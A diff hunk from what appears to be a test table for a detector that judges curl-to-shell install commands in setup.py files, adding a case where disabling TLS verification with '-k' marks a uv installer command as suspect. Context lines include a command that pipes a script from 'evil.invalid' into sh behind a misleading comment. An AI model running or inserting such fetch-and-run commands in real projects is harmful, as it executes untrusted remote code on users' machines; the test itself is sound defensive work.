@@ -129,6 +129,12 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
     ['import os', 'os.system("curl -sSf https://evil.invalid/x | sh # https://sh.rustup.rs")'],
   ],
   [
+    'and from nobody else',
+    'setup.py',
+    ['import os', 'os.system("curl -LsSf https://astral.sh/uv/install.sh | sh")'],
+    ['import os', 'os.system("curl -LsSfk https://astral.sh/uv/install.sh | sh")'],
+  ],
+  [
     'and over TLS',
     'setup.py',
     ['import os', 'os.system("curl -LsSf https://astral.sh/uv/install.sh | sh")'],
